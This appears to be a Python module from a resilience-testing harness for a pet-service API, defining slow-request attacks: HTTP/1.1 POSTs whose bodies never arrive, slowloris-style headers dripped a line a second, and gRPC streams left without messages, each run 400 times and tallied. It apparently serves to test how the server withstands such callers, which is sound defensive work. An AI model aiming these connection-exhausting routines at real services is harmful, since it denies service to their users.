"""Senders who begin and do not go on: what a caller costs before all of its request is there."""

import asyncio
from functools import partial

from attacks.attack import Attack, Scene
from attacks.http1 import exchange, head
from attacks.http2 import grpc_fields, opened

__all__ = ["ATTACKS"]

_PATH = "/v1/customers/good-0/pets"
_METHOD = "/pawport.v1.PetService/CreatePet"
_BAD_KEY = "pawport_not-a-key"
_STREAMS = 50  # of a connection


async def _half_json(scene: Scene, *, key: str = "") -> None:
    """Heads of POSTs over HTTP/1.1, a connection each, whose bodies never come."""
    data = head(scene, "POST", _PATH, key=key, length=1000)
    await asyncio.gather(*(_one(scene, data) for _ in range(scene.size)))


async def _slow_heads(scene: Scene) -> None:
    """Heads that do not end: a line more every second."""
    data = f"GET {_PATH} HTTP/1.1\r\nhost: {scene.server.address}\r\n".encode()
    await asyncio.gather(*(_one(scene, data, drip=b"x-more: y\r\n") for _ in range(scene.size)))


async def _one(scene: Scene, data: bytes, drip: bytes = b"") -> None:
    try:
        async with exchange(scene, data) as found:
            scene.counts["sent"] += 1
            while not (scene.over or found.ended):
                await asyncio.sleep(min(1.0, scene.remaining))
                found.writer.write(drip)
            scene.counts[str(found)] += 1
    except (OSError, TimeoutError) as error:
        scene.counts["sent"] += 1
        scene.counts[f"not connected: {type(error).__name__}"] += 1


async def _half_grpc(scene: Scene, *, key: str = "") -> None:
    """Headers of calls over gRPC whose message never comes."""
    parts = list(scene.shares(max(1, scene.size // _STREAMS)))
    await asyncio.gather(*(_streams(scene, size, key) for size in parts))


async def _streams(scene: Scene, size: int, key: str) -> None:
    async with opened(scene) as connection:
        for _ in range(size):
            connection.open_stream(grpc_fields(scene, _METHOD, key))
            scene.counts["sent"] += 1
        await connection.drain()
        await asyncio.sleep(scene.remaining)
        scene.counts.update(str(stream) for stream in connection.streams.values())


ATTACKS = [
    Attack("half-json", "400 POSTs over HTTP/1.1 without a key, whose bodies never come", _half_json, 400),
    Attack("half-json-bad-key", "the same with a wrong key", partial(_half_json, key=_BAD_KEY), 400),
    Attack("half-grpc", "400 calls over gRPC without a key, whose messages never come", _half_grpc, 400),
    Attack("half-grpc-bad-key", "the same with a wrong key", partial(_half_grpc, key=_BAD_KEY), 400),
    Attack("slow-headers", "400 connections whose headers never end, a line a second", _slow_heads, 400),
]
